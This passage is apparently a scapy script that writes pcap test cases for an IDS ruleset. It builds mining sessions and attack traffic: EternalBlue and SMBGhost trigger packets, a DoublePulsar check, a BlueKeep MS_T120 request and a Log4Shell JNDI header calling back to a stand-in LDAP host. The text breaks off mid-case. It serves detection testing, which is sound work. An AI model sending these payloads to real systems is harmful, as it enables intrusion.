#!/usr/bin/python3
"""Seeded captures for the pcap cases of Safeguard's own rules (rules/safeguard.rules).

One capture per scenario: an attack a rule must catch, or benign traffic of the same
family that must not alert; and the stream-NAME scenarios (match-stream-NAME/ case folders,
with their own test.rules) for stream-mode matching. Every capture is a pure function of its name and the seed,
written with Debian's python (/usr/bin/python3, which has scapy). Each scenario becomes a
case folder test/pcap/cases/rule-NAME/ with input.pcap and case.yaml (what it must alert);
test/pcap/run_cases.py replays them.

    scripts/gen-rule-pcaps.py                 # (re)write every rule-NAME/ case folder
    scripts/gen-rule-pcaps.py NAME ...        # only these scenarios
    scripts/gen-rule-pcaps.py --check         # regenerate in a temporary folder and compare
                                              # with what is committed (exit 1 on a difference)
    scripts/gen-rule-pcaps.py --list          # scenario names and what each shows

The TCP conversations have full handshakes (flow:established needs one), ACKs and FINs,
plausible TTLs, windows and options; the application bytes follow the protocol specs
(SMB1/SMB2, RDP X.224/MCS/GCC, telnet, Stratum JSON-RPC, HTTP).
"""

import argparse
import filecmp
import logging
import random
import struct
import sys
import tempfile
from pathlib import Path

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)

from scapy.all import IP, TCP, Ether, Raw, wrpcap  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
CASES = ROOT / "test" / "pcap" / "cases"
SEED = 9100000
START = 1_764_288_000.0  # 2025-11-28T00:00:00Z: every capture starts here
MSS = 1448
GATEWAY_MAC = "02:5a:fe:00:00:01"
HOST_MAC = "02:5a:fe:00:00:02"


# ---------------------------------------------------------------------------
# Capture and TCP helpers
# ---------------------------------------------------------------------------

class Capture:
    """The packets of one scenario, with a seeded clock."""

    def __init__(self, name):
        self.rng = random.Random(f"{SEED}:{name}")
        self.now = START
        self.packets = []

    def later(self, mean=0.003):
        self.now += self.rng.expovariate(1.0 / mean)
        return self.now

    def pause(self, seconds):
        self.now += seconds

    def emit(self, pkt, inbound):
        frame = Ether(src=GATEWAY_MAC if inbound else HOST_MAC, dst=HOST_MAC if inbound else GATEWAY_MAC) / pkt
        frame.time = self.later()
        self.packets.append(frame)


LINUX_SYN_OPTIONS = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (0, 0)), ("NOP", None), ("WScale", 7)]
WINDOWS_SYN_OPTIONS = [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None), ("SAckOK", b"")]


class Tcp:
    """One TCP connection between a client and a server, segment by segment.

    handshake=False starts in the middle of an established connection (what a tap sees
    when it starts after the connection did)."""

    def __init__(self, cap, client, server, sport, dport, client_ttl=64, server_ttl=64,
                 client_options=LINUX_SYN_OPTIONS, client_window=64240, server_window=65160,
                 handshake=True, client_inbound=True):
        self.cap = cap
        self.ends = {True: (client, sport, client_ttl, client_window),
                     False: (server, dport, server_ttl, server_window)}
        self.seq = {True: cap.rng.getrandbits(32), False: cap.rng.getrandbits(32)}
        self.ipid = {True: cap.rng.getrandbits(16), False: cap.rng.getrandbits(16)}
        self.client_inbound = client_inbound
        if handshake:
            self.segment(True, "S", options=client_options)
            self.seq[True] += 1
            self.segment(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)])
            self.seq[False] += 1
            self.segment(True, "A")

    def segment(self, from_client, flags, data=b"", options=None):
        src, sport, ttl, window = self.ends[from_client]
        dst, dport, _, _ = self.ends[not from_client]
        ack = self.seq[not from_client] if "A" in flags else 0
        self.ipid[from_client] = (self.ipid[from_client] + 1) & 0xFFFF
        pkt = IP(src=src, dst=dst, ttl=ttl, id=self.ipid[from_client], flags="DF") / TCP(
            sport=sport, dport=dport, flags=flags, seq=self.seq[from_client], ack=ack, window=window,
            options=options or [])
        if data:
            pkt = pkt / Raw(data)
        self.cap.emit(pkt, inbound=(from_client == self.client_inbound))
        self.seq[from_client] = (self.seq[from_client] + len(data)) & 0xFFFFFFFF

    def send(self, from_client, data):
        """Data in MSS-sized PSH segments, then the peer's ACK."""
        for i in range(0, len(data), MSS):
            self.segment(from_client, "PA", data[i:i + MSS])
        self.segment(not from_client, "A")

    def client(self, data):
        self.send(True, data)

    def server(self, data):
        self.send(False, data)

    def close(self):
        self.segment(True, "FA")
        self.seq[True] += 1
        self.segment(False, "FA")
        self.seq[False] += 1
        self.segment(True, "A")


def exchange(cap, client, server, sport, dport, request, response, **kw):
    """Handshake, one request, one response, close."""
    t = Tcp(cap, client, server, sport, dport, **kw)
    t.client(request)
    t.server(response)
    t.close()


def http_request(method, path, host, headers=(), body=b""):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"] + list(headers)
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def http_response(status="200 OK", body=b"<html><body>ok</body></html>\n", ctype="text/html"):
    head = f"HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: {ctype}\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


# ---------------------------------------------------------------------------
# Crypto-currency mining: Stratum (Bitcoin family), CryptoNote (Monero), Ethereum proxies
# ---------------------------------------------------------------------------

MINER = "10.1.4.21"          # a tenant VM that got a miner dropped on it
POOL = "203.0.113.50"        # documentation addresses stand in for pools and attackers
POOL2 = "198.51.100.77"
WALLET = "4" + "".join(random.Random(SEED).choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
                       for _ in range(94))


def jline(text):
    return text.encode() + b"\n"


def hexstr(rng, nbytes):
    return "".join(f"{rng.getrandbits(8):02x}" for _ in range(nbytes))


def stratum_notify(rng, job):
    return jline('{"id":null,"method":"mining.notify","params":["%x","%s","%s","%s",[],"20000000","1703a30c","%08x",true]}'
                 % (job, hexstr(rng, 32), hexstr(rng, 40), hexstr(rng, 24), 0x6560_0000 + job))


def gen_mining_subscribe(cap):
    t = Tcp(cap, MINER, POOL, 48210, 3333, client_inbound=False)
    t.client(jline('{"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.12.1"]}'))
    # The answer names mining.notify as a subscription, not as a method: no 9100004.
    t.server(jline('{"id":1,"result":[[["mining.set_difficulty","b4b6693b"],["mining.notify","ae6812eb"]],"08000002",4],"error":null}'))
    t.close()


def gen_mining_authorize(cap):
    t = Tcp(cap, MINER, POOL, 48212, 3333, client_inbound=False)
    t.client(jline('{"params": ["tenant7.rig01", "x"], "id": 2, "method": "mining.authorize"}'))
    t.server(jline('{"id":2,"result":true,"error":null}'))
    t.close()


def gen_mining_submit(cap):
    t = Tcp(cap, MINER, POOL, 48214, 3333, client_inbound=False)
    for i in range(5):   # five shares, one alert (threshold: once per miner and pool an hour)
        t.client(jline('{"params": ["tenant7.rig01", "%x", "%s", "%08x", "%08x"], "id": %d, "method": "mining.submit"}'
                       % (0x1a0 + i, hexstr(cap.rng, 4), 0x65600000 + i, cap.rng.getrandbits(32), 10 + i)))
        t.server(jline('{"id":%d,"result":true,"error":null}' % (10 + i)))
        cap.pause(2.0)
    t.close()


def gen_mining_notify_midstream(cap):
    # The tap starts while the miner is already working: no handshake, the pool speaks first.
    t = Tcp(cap, MINER, POOL, 48216, 3333, handshake=False, client_inbound=False)
    for job in range(3):
        t.server(jline('{"id":null,"method":"mining.set_difficulty","params":[65536]}') + stratum_notify(cap.rng, 0x2b0 + job))
        cap.pause(5.0)


def gen_mining_stratum_session(cap):
    t = Tcp(cap, MINER, POOL, 48218, 3333, client_inbound=False)
    t.client(jline('{"id": 1, "method": "mining.subscribe", "params": ["bfgminer/5.5.0"]}'))
    t.server(jline('{"id":1,"result":[[["mining.notify","1"],["mining.set_difficulty","2"]],"00b61738",4],"error":null}')
             + jline('{"id":null,"method":"mining.set_difficulty","params":[4096]}') + stratum_notify(cap.rng, 1))
    t.client(jline('{"id": 2, "method": "mining.authorize", "params": ["tenant7.rig01", "x"]}'))
    t.server(jline('{"id":2,"result":true,"error":null}'))
    for i in range(3):
        cap.pause(3.0)
        t.server(stratum_notify(cap.rng, 2 + i))
        t.client(jline('{"id": %d, "method": "mining.submit", "params": ["tenant7.rig01", "%x", "%s", "%08x", "%08x"]}'
                       % (3 + i, 2 + i, hexstr(cap.rng, 4), 0x65600000 + i, cap.rng.getrandbits(32))))
        t.server(jline('{"id":%d,"result":true,"error":null}' % (3 + i)))
    t.close()


def cryptonote_job(rng, job_id):
    return '{"blob":"%s","job_id":"%s","target":"b88d0600"}' % (hexstr(rng, 76), job_id)


def gen_monero_login(cap):
    t = Tcp(cap, MINER, POOL, 48220, 4444, client_inbound=False)
    t.client(jline('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x"}}' % WALLET))
    # The pool turns the worker down: the login alone must alert.
    t.server(jline('{"id":1,"jsonrpc":"2.0","error":{"code":-1,"message":"Invalid payment address provided"}}'))
    t.close()


def gen_xmrig_login(cap):
    # XMRig on a pool that takes a Bitcoin payout address as login: the agent is the tell.
    t = Tcp(cap, MINER, POOL, 48222, 3333, client_inbound=False)
    t.client(jline('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy.rig01",'
                   '"pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/13.2.1","algo":["rx/0","cn/r"]}}'))
    t.server(jline('{"id":1,"jsonrpc":"2.0","error":{"code":-1,"message":"Unauthenticated"}}'))
    t.close()


def gen_monero_job_midstream(cap):
    t = Tcp(cap, MINER, POOL2, 48224, 5555, handshake=False, client_inbound=False)
    for i in range(3):
        t.server(jline('{"jsonrpc":"2.0","method":"job","params":%s}' % cryptonote_job(cap.rng, f"{700100 + i}")))
        cap.pause(8.0)


def gen_xmrig_session(cap):
    t = Tcp(cap, MINER, POOL2, 48226, 5555, client_inbound=False)
    t.client(jline('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"rig01",'
                   '"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/13.2.1","algo":["rx/0"]}}' % WALLET))
    t.server(jline('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"%s","job":%s,"status":"OK"}}'
                   % (hexstr(cap.rng, 8), cryptonote_job(cap.rng, "700200"))))
    for i in range(2):
        cap.pause(4.0)
        t.client(jline('{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"w1","job_id":"%d","nonce":"%s","result":"%s"}}'
                       % (2 + i, 700200 + i, hexstr(cap.rng, 4), hexstr(cap.rng, 32))))
        t.server(jline('{"id":%d,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}' % (2 + i)))
        t.server(jline('{"jsonrpc":"2.0","method":"job","params":%s}' % cryptonote_job(cap.rng, f"{700201 + i}")))
    t.close()


def gen_eth_submitlogin(cap):
    t = Tcp(cap, MINER, POOL, 48228, 8008, client_inbound=False)
    t.client(jline('{"worker": "rig01", "jsonrpc": "2.0", "params": ["0x%s", "x"], "id": 1, "method": "eth_submitLogin"}'
                   % hexstr(cap.rng, 20)))
    t.server(jline('{"jsonrpc":"2.0","id":1,"result":true}'))
    t.client(jline('{"worker": "", "jsonrpc": "2.0", "params": [], "id": 3, "method": "eth_getWork"}'))
    t.server(jline('{"jsonrpc":"2.0","id":3,"result":["0x%s","0x%s","0x%s"]}'
                   % (hexstr(cap.rng, 32), hexstr(cap.rng, 32), "00000000" + hexstr(cap.rng, 28))))
    t.close()


def gen_mining_negative(cap):
    app = "10.1.4.30"
    # JSON-RPC that is not mining: a calculator service, an LSP-like editor backend.
    t = Tcp(cap, app, "10.1.9.9", 51000, 4000, client_inbound=False)
    t.client(jline('{"jsonrpc": "2.0", "method": "subtract", "params": [42, 23], "id": 1}'))
    t.server(jline('{"jsonrpc": "2.0", "result": 19, "id": 1}'))
    t.client(jline('{"jsonrpc": "2.0", "method": "textDocument/completion", "params": {"position": {"line": 3}}, "id": 2}'))
    t.server(jline('{"jsonrpc": "2.0", "result": [], "id": 2}'))
    t.close()
    # A web application's own JSON login: method "login", a login, a pass, a browser agent.
    body = b'{"method":"login","params":{"login":"alice@example.org","pass":"correct horse","agent":"Mozilla/5.0 (X11; Linux x86_64)"}}'
    exchange(cap, "192.0.2.44", "10.1.4.30", 52344, 8080, http_request(
        "POST", "/api/session", "app.example.org", ["Content-Type: application/json"], body),
        http_response(body=b'{"ok":true}', ctype="application/json"))
    # Somebody reads about Stratum: the method names are in the page, to the client.
    page = (b"<html><body><h1>Stratum</h1><p>The miner sends <code>mining.subscribe</code>, then "
            b"<code>mining.authorize</code>; the pool answers with <code>mining.notify</code>.</p>"
            b"<pre>{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}</pre></body></html>\n")
    exchange(cap, app, "198.51.100.20", 52346, 80, http_request("GET", "/wiki/Stratum", "docs.example.net",
                                                               ["User-Agent: curl/8.5.0"]), http_response(body=page),
             client_inbound=False)
    # An Ethereum node's ordinary RPC.
    exchange(cap, app, "10.1.9.10", 52348, 8545,
             jline('{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":83}'),
             jline('{"jsonrpc":"2.0","id":83,"result":"0x4b7"}'), client_inbound=False)


# ---------------------------------------------------------------------------
# SMB: SMBv1 (MS17-010 family) and SMB 3.1.1 (SMBGhost)
# ---------------------------------------------------------------------------

SMB_SERVER = "10.1.2.15"
SMB_ATTACKER = "192.0.2.66"


def netbios(msg):
    return struct.pack(">I", len(msg)) + msg


def smb1(cmd, words=b"", data=b"", status=0, reply=False, flags2=0x4001, tid=0, uid=0, mid=1, pid=0x4242):
    flags = 0x98 if reply else 0x18
    hdr = b"\xffSMB" + struct.pack("<BIBHH8sHHHHH", cmd, status, flags, flags2, 0, b"\0" * 8, 0, tid, pid, uid, mid)
    return netbios(hdr + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data)


def smb1_login(t, challenge):
    """Negotiate NT LM 0.12, anonymous session, tree connect to IPC$: returns (uid, tid)."""
    t.client(smb1(0x72, data=b"\x02NT LM 0.12\x00", mid=1))
    words = struct.pack("<HBHHIIIIQhB", 0, 0x03, 50, 1, 16644, 65536, 0, 0x0000f3fd, 132_500_000_000_000_000, 0,
                        len(challenge))
    t.server(smb1(0x72, words, challenge + b"WORKGROUP\x00", reply=True, mid=1))
    uid, tid = 0x0800, 0x0801
    words = struct.pack("<BBHHHHIHHII", 0xFF, 0, 0, 4356, 10, 0, 0, 0, 0, 0, 0x000000d4)
    t.client(smb1(0x73, words, b"\x00\x00Unix\x00Samba\x00", mid=2))
    t.server(smb1(0x73, struct.pack("<BBHH", 0xFF, 0, 0, 1), b"Windows Server 2008 R2\x00\x00WORKGROUP\x00",
                  reply=True, uid=uid, mid=2))
    t.client(smb1(0x75, struct.pack("<BBHHH", 0xFF, 0, 0, 0, 1), b"\x00\\\\%s\\IPC$\x00?????\x00" % SMB_SERVER.encode(),
                  uid=uid, mid=3))
    t.server(smb1(0x75, struct.pack("<BBHH", 0xFF, 0, 0, 1), b"IPC\x00\x00", reply=True, uid=uid, tid=tid, mid=3))
    return uid, tid


def trans2_request(subcommand, params, uid, tid, mid, timeout=0):
    # WordCount 15; parameters follow one byte of padding after ByteCount.
    param_offset = 32 + 1 + 30 + 2 + 1
    words = struct.pack("<HHHHBBHIHHHHHBBH", len(params), 0, 10, 4096, 0, 0, 0, timeout, 0,
                        len(params), param_offset, 0, param_offset + len(params), 1, 0, subcommand)
    return smb1(0x32, words, b"\x00" + params, uid=uid, tid=tid, mid=mid)


def gen_smb_trans2_session_setup(cap):
    t = Tcp(cap, SMB_ATTACKER, SMB_SERVER, 49732, 445, client_ttl=118, server_ttl=128)
    uid, tid = smb1_login(t, bytes(cap.rng.getrandbits(8) for _ in range(8)))
    t.client(trans2_request(0x000e, b"\x00" * 12, uid, tid, mid=65, timeout=0x0134ee00))
    # A clean server: "not implemented" with the same multiplex id.
    t.server(smb1(0x32, status=0xC0000002, reply=True, uid=uid, tid=tid, mid=65))
    t.close()


def gen_smb_doublepulsar_implant(cap):
    t = Tcp(cap, SMB_ATTACKER, SMB_SERVER, 49734, 445, client_ttl=118, server_ttl=128)
    uid, tid = smb1_login(t, bytes(cap.rng.getrandbits(8) for _ in range(8)))
    t.client(trans2_request(0x000e, b"\x00" * 12, uid, tid, mid=65, timeout=0x0134ee00))
    # An infected server answers with multiplex id 81.
    t.server(smb1(0x32, status=0xC0000002, reply=True, uid=uid, tid=tid, mid=81))
    t.close()


def gen_smb_eternalblue_nttrans(cap):
    t = Tcp(cap, SMB_ATTACKER, SMB_SERVER, 49736, 445, client_ttl=118, server_ttl=128)
    uid, tid = smb1_login(t, bytes(cap.rng.getrandbits(8) for _ in range(8)))
    total_data, params = 0x103D0, b"\x00" * 30
    fea = struct.pack("<I", 0x10000) + bytes(cap.rng.getrandbits(8) for _ in range(972))
    param_offset = 32 + 1 + 38 + 2 + 3
    data_offset = param_offset + len(params) + 2
    words = struct.pack("<BHIIIIIIIIBH", 1, 0, len(params), total_data, len(params), 0, len(params), param_offset,
                        len(fea), data_offset, 0, 0x0000)
    t.client(smb1(0xA0, words, b"\x00" * 3 + params + b"\x00" * 2 + fea, uid=uid, tid=tid, mid=64))
    t.server(smb1(0xA0, reply=True, uid=uid, tid=tid, mid=64))   # interim response: send the rest
    shown = len(fea)
    for _ in range(2):   # continued with Trans2 secondaries, as the exploit does
        chunk = bytes(cap.rng.getrandbits(8) for _ in range(1000))
        data_offset = 32 + 1 + 18 + 2 + 1
        # 16-bit fields here: the server keeps counting against the primary's 32-bit total.
        words = struct.pack("<HHHHHHHHH", 0, total_data & 0xFFFF, 0, 0, 0, len(chunk), data_offset, shown, 0)
        t.segment(True, "PA", smb1(0x33, words, b"\x00" + chunk, uid=uid, tid=tid, mid=64))
        shown += len(chunk)
    t.segment(False, "A")
    t.close()


def smb2(cmd, body, msg_id, credits=1, reply=False, status=0, session=0, tree=0):
    flags = 1 if reply else 0
    hdr = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1 if msg_id else 0, status, cmd, credits, flags, 0,
                      msg_id, 0xFEFF if not tree else 0, tree, session, b"\0" * 16)
    return netbios(hdr + body)


def pad8(b):
    return b + b"\0" * (-len(b) % 8)


def negotiate_contexts(items):
    out = b""
    for i, (ctype, data) in enumerate(items):
        ctx = struct.pack("<HHI", ctype, len(data), 0) + data
        out += pad8(ctx) if i + 1 < len(items) else ctx
    return out


def smb2_negotiate_request(guid, salt, dialects, compression_algs):
    contexts = [(1, struct.pack("<HHH", 1, len(salt), 1) + salt),
                (2, struct.pack("<HHH", 2, 2, 1))]
    if compression_algs:
        contexts.append((3, struct.pack("<HHI", len(compression_algs), 0, 0) + b"".join(
            struct.pack("<H", a) for a in compression_algs)))
    fixed_len = 64 + 36 + 2 * len(dialects)
    ctx_offset = fixed_len + (-fixed_len % 8)
    body = struct.pack("<HHHHI16sIHH", 36, len(dialects), 1, 0, 0x7F, guid, ctx_offset, len(contexts), 0)
    body += b"".join(struct.pack("<H", d) for d in dialects)
    body += b"\0" * (ctx_offset - fixed_len) + negotiate_contexts(contexts)
    return smb2(0, body, msg_id=0, credits=31)


SPNEGO_INIT = bytes.fromhex("601c06062b0601050502a0123010a00e300c060a2b06010401823702020a")


def smb2_negotiate_response(rng, compression_alg):
    contexts = [(1, struct.pack("<HHH", 1, 32, 1) + bytes(rng.getrandbits(8) for _ in range(32))),
                (2, struct.pack("<HH", 1, 2))]
    if compression_alg:
        contexts.append((3, struct.pack("<HHIH", 1, 0, 0, compression_alg)))
    sec_offset = 64 + 64
    ctx_offset = sec_offset + len(SPNEGO_INIT) + (-(sec_offset + len(SPNEGO_INIT)) % 8)
    body = struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x0311, len(contexts), bytes(rng.getrandbits(8) for _ in range(16)),
                       0x2F, 8388608, 8388608, 8388608, 133_800_000_000_000_000, 0, sec_offset, len(SPNEGO_INIT),
                       ctx_offset)
    body += SPNEGO_INIT + b"\0" * (ctx_offset - sec_offset - len(SPNEGO_INIT)) + negotiate_contexts(contexts)
    return smb2(0, body, msg_id=0, credits=1, reply=True)


def windows_negotiate(rng):
    guid = bytes(rng.getrandbits(8) for _ in range(16))
    salt = bytes(rng.getrandbits(8) for _ in range(32))
    return smb2_negotiate_request(guid, salt, [0x0202, 0x0210, 0x0300, 0x0302, 0x0311], [0x0002, 0x0003, 0x0004])


def gen_smb_smbghost_check(cap):
    t = Tcp(cap, SMB_ATTACKER, SMB_SERVER, 49738, 445, client_ttl=52, server_ttl=128)
    t.client(smb2_negotiate_request(b"\0" * 16, b"\0" * 32, [0x0202, 0x0210, 0x0300, 0x0302, 0x0311], [0x0001]))
    t.server(smb2_negotiate_response(cap.rng, 0x0001))
    t.close()


def compression_transform(original_size, algorithm, offset, rest):
    return netbios(struct.pack("<4sIHHI", b"\xfcSMB", original_size, algorithm, 0, offset) + rest)


def gen_smb_smbghost_exploit(cap):
    t = Tcp(cap, SMB_ATTACKER, SMB_SERVER, 49740, 445, client_ttl=52, server_ttl=128)
    t.client(windows_negotiate(cap.rng))
    t.server(smb2_negotiate_response(cap.rng, 0x0001))
    # Offset 0xffffffff: OriginalCompressedSegmentSize + Offset wraps around in srv2.sys.
    t.segment(True, "PA", compression_transform(0x1000, 0x0001, 0xFFFFFFFF,
                                                bytes(cap.rng.getrandbits(8) for _ in range(600))))
    t.segment(False, "RA")


def gen_smb_negative(cap):
    # Windows 10/11 client: SMB 3.1.1 with compression offered (random GUID and salt).
    client = "10.1.2.40"
    t = Tcp(cap, client, SMB_SERVER, 50110, 445, client_ttl=128, server_ttl=128, client_options=WINDOWS_SYN_OPTIONS)
    t.client(windows_negotiate(cap.rng))
    t.server(smb2_negotiate_response(cap.rng, 0x0002))
    ntlm = b"NTLMSSP\x00" + struct.pack("<II", 1, 0xE2088297) + b"\0" * 16 + bytes.fromhex("0a00614a0000000f")
    body = struct.pack("<HBBIIHHQ", 25, 0, 1, 1, 0, 64 + 24, len(ntlm), 0) + ntlm
    t.client(smb2(1, body, msg_id=1, credits=33))
    target = "WORKGROUP".encode("utf-16-le")
    info = struct.pack("<HH", 2, len(target)) + target + struct.pack("<HH", 0, 0)
    challenge = (b"NTLMSSP\x00" + struct.pack("<IHHII", 2, len(target), len(target), 56, 0xE28A8215)
                 + bytes(cap.rng.getrandbits(8) for _ in range(8)) + b"\0" * 8
                 + struct.pack("<HHI", len(info), len(info), 56 + len(target)) + bytes.fromhex("0a00614a0000000f")
                 + target + info)
    t.server(smb2(1, struct.pack("<HHHH", 9, 0, 64 + 8, len(challenge)) + challenge, msg_id=1, reply=True,
                  status=0xC0000016, session=0x0000_4000_0000_0011))
    # A legitimately compressed message: sizes well below 2 GiB.
    t.client(compression_transform(65536 + 112, 0x0002, 112, bytes(cap.rng.getrandbits(8) for _ in range(900))))
    t.close()
    # A legacy SMBv1 client lists a directory: Trans2 FIND_FIRST2, an NT Trans IOCTL.
    t = Tcp(cap, "10.1.2.41", SMB_SERVER, 50112, 445, client_ttl=64, server_ttl=128)
    uid, tid = smb1_login(t, bytes(cap.rng.getrandbits(8) for _ in range(8)))
    find = struct.pack("<HHHHH", 0x16, 1366, 0x6, 0x0104, 0) + b"\\*\x00"
    t.client(trans2_request(0x0001, find, uid, tid, mid=4))
    t.server(smb1(0x32, status=0xC000000F, reply=True, uid=uid, tid=tid, mid=4))
    # FSCTL with 8 bytes of data: WordCount 23 (four setup words), function 2 (IOCTL).
    offset = 32 + 1 + 46 + 2 + 3
    words = struct.pack("<BHIIIIIIIIBH", 4, 0, 0, 8, 0, 1024, 0, offset, 8, offset, 4, 0x0002)
    words += struct.pack("<IHBB", 0x00090078, 0x4000, 1, 0)
    t.client(smb1(0xA0, words, b"\x00" * 3 + b"\x00" * 8, uid=uid, tid=tid, mid=5))
    t.server(smb1(0xA0, status=0xC0000010, reply=True, uid=uid, tid=tid, mid=5))
    t.close()


# ---------------------------------------------------------------------------
# RDP: X.224 connection, MCS Connect-Initial with GCC client data
# ---------------------------------------------------------------------------

RDP_SERVER = "10.1.3.10"


def tpkt(payload):
    return struct.pack(">BBH", 3, 0, 4 + len(payload)) + payload


def ber_len(n):
    return bytes([n]) if n < 0x80 else b"\x82" + struct.pack(">H", n)


def ber(tag, content):
    return bytes(tag) + ber_len(len(content)) + content


def ber_int(v):
    raw = v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big")
    return ber(b"\x02", raw)


def domain_params(values):
    return ber(b"\x30", b"".join(ber_int(v) for v in values))


def per_len(n):
    return bytes([n]) if n < 0x80 else struct.pack(">H", 0x8000 | n)


def utf16_fixed(text, size):
    raw = text.encode("utf-16-le")
    return raw + b"\0" * (size - len(raw))


def x224_connection_request(cookie_user, protocols):
    body = b"\xe0\x00\x00\x00\x00\x00" + f"Cookie: mstshash={cookie_user}\r\n".encode() + struct.pack("<BBHI", 1, 0, 8, protocols)
    return tpkt(bytes([len(body)]) + body)


X224_CONFIRM_RDP = tpkt(b"\x0e\xd0\x00\x00\x12\x34\x00" + struct.pack("<BBHI", 2, 0, 8, 0))


def mcs_connect_initial(channels, client_name):
    core = struct.pack("<IHHHHII", 0x00080004, 1280, 800, 0xCA01, 0xAA03, 0x409, 2600)
    core += utf16_fixed(client_name, 32) + struct.pack("<III", 4, 0, 12) + b"\0" * 64
    core += struct.pack("<HHIHHH", 0xCA01, 1, 0, 24, 0x0007, 0x0001) + b"\0" * 64 + struct.pack("<BBI", 0, 0, 0)
    blocks = struct.pack("<HH", 0xC001, 4 + len(core)) + core
    blocks += struct.pack("<HHII", 0xC002, 12, 0x1B, 0)
    net = struct.pack("<I", len(channels)) + b"".join(name.encode().ljust(8, b"\0") + struct.pack("<I", opts)
                                                       for name, opts in channels)
    blocks += struct.pack("<HH", 0xC003, 4 + len(net)) + net
    blocks += struct.pack("<HHII", 0xC004, 12, 0x0D, 0)
    gcc_pdu = bytes.fromhex("000800100001c000") + b"Duca" + per_len(len(blocks)) + blocks
    gcc = bytes.fromhex("000500147c0001") + per_len(len(gcc_pdu)) + gcc_pdu
    mcs = (ber(b"\x04", b"\x01") + ber(b"\x04", b"\x01") + ber(b"\x01", b"\xff")
           + domain_params([34, 2, 0, 1, 0, 1, 65535, 2]) + domain_params([1, 1, 1, 1, 0, 1, 1056, 2])
           + domain_params([65535, 64535, 65535, 1, 0, 1, 65535, 2]) + ber(b"\x04", gcc))
    return tpkt(b"\x02\xf0\x80" + ber(b"\x7f\x65", mcs))


def mcs_connect_response(channel_ids):
    net = struct.pack("<HH", 1003, len(channel_ids)) + b"".join(struct.pack("<H", c) for c in channel_ids)
    net += b"\0" * (len(net) % 4)
    blocks = (struct.pack("<HHII", 0x0C01, 12, 0x00080004, 0) + struct.pack("<HHII", 0x0C02, 12, 0, 0)
              + struct.pack("<HH", 0x0C03, 4 + len(net)) + net)
    gcc_pdu = bytes.fromhex("14760a01010001c000") + b"McDn" + per_len(len(blocks)) + blocks
    gcc = bytes.fromhex("000500147c0001") + per_len(len(gcc_pdu)) + gcc_pdu
    mcs = ber(b"\x0a", b"\x00") + ber_int(0) + domain_params([34, 3, 0, 1, 0, 1, 65528, 2]) + ber(b"\x04", gcc)
    return tpkt(b"\x02\xf0\x80" + ber(b"\x7f\x66", mcs))


def rdp_connection(cap, client, sport, channels, user, name, client_ttl=64):
    t = Tcp(cap, client, RDP_SERVER, sport, 3389, client_ttl=client_ttl, server_ttl=128)
    t.client(x224_connection_request(user, 0))   # PROTOCOL_RDP: standard RDP security, MCS in the clear
    t.server(X224_CONFIRM_RDP)
    t.client(mcs_connect_initial(channels, name))
    t.server(mcs_connect_response([1004 + i for i in range(len(channels))]))
    t.client(tpkt(b"\x02\xf0\x80\x04\x01\x00\x01\x00"))   # erect domain request
    t.client(tpkt(b"\x02\xf0\x80\x28"))                   # attach user request
    t.server(tpkt(b"\x02\xf0\x80\x2e\x00\x00\x07"))       # attach user confirm
    return t


STANDARD_CHANNELS = [("rdpdr", 0x80800000), ("rdpsnd", 0xC0000000), ("cliprdr", 0xC0A00000), ("drdynvc", 0xC0800000)]


def gen_rdp_bluekeep(cap):
    # Two tries from one host; the second spells the channel in mixed case.
    t = rdp_connection(cap, "192.0.2.81", 51334, [("rdpdr", 0x80800000), ("MS_T120", 0x80800000),
                                                  ("rdpsnd", 0xC0000000)], "eltons", "kali", client_ttl=49)
    t.close()
    cap.pause(1.5)
    t = rdp_connection(cap, "192.0.2.81", 51336, [("MS_t120", 0x80800000), ("cliprdr", 0xC0A00000)],
                       "eltons", "kali", client_ttl=49)
    t.close()


def gen_rdp_negative(cap):
    t = rdp_connection(cap, "192.0.2.90", 52100, STANDARD_CHANNELS, "operator", "OPS-LAPTOP-7", client_ttl=117)
    t.close()
    # A modern client negotiating TLS + CredSSP: the MCS exchange is encrypted.
    t = Tcp(cap, "192.0.2.91", RDP_SERVER, 52102, 3389, client_ttl=117, server_ttl=128)
    t.client(x224_connection_request("admin", 0x0B))
    t.server(tpkt(b"\x0e\xd0\x00\x00\x12\x34\x00" + struct.pack("<BBHI", 2, 0x1F, 8, 2)))
    t.client(bytes.fromhex("16030100c4010000c00303") + bytes(cap.rng.getrandbits(8) for _ in range(193)))
    t.close()


# ---------------------------------------------------------------------------
# Log4Shell
# ---------------------------------------------------------------------------

WEB = "10.1.1.20"
CALLBACK = "ldap://198.51.100.9:1389/a"


def gen_log4shell_plain(cap):
    exchange(cap, "192.0.2.101", WEB, 40110, 8080, http_request(
        "GET", "/", "shop.example.org", ["User-Agent: ${jndi:" + CALLBACK + "}", "Accept: */*"]),
        http_response())
    # Not only HTTP: anything the service logs, here an SMTP greeting.
    t = Tcp(cap, "192.0.2.102", "10.1.1.25", 40112, 25)
    t.server(b"220 mx.example.org ESMTP Postfix\r\n")
